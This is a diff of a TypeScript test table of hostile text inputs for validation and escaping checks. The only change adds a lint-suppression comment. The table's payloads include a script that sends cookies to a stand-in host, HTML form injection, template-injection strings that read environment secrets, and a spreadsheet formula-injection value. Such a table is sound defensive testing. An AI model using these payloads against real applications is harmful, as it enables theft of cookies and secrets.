@@ -151,6 +151,7 @@ const texts: Table = {
   "HC-TXT-002": [["before\u0000after", "Description must not include control characters"]],
   "HC-TXT-005": [literal('<script>fetch("//evil.example?c="+document.cookie)</script>')],
   "HC-TXT-006": [literal("</textarea><form action=//evil.example><input name=x>")],
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: the hostile text is exactly that
   "HC-TXT-008": [literal('{{constructor.constructor("return process.env")()}} and ${process.env.AUTH_SECRET} and <%= 7*7 %>')],
   "HC-TXT-009": [["=cmd|'/c calc'!A1", { text: "=cmd|'/c calc'!A1", cell: `"'=cmd|'/c calc'!A1"` }]],
   "HC-TXT-010": [[`a${"\u0301".repeat(5_000)}`, "Organization name must be 200 characters or less"]],
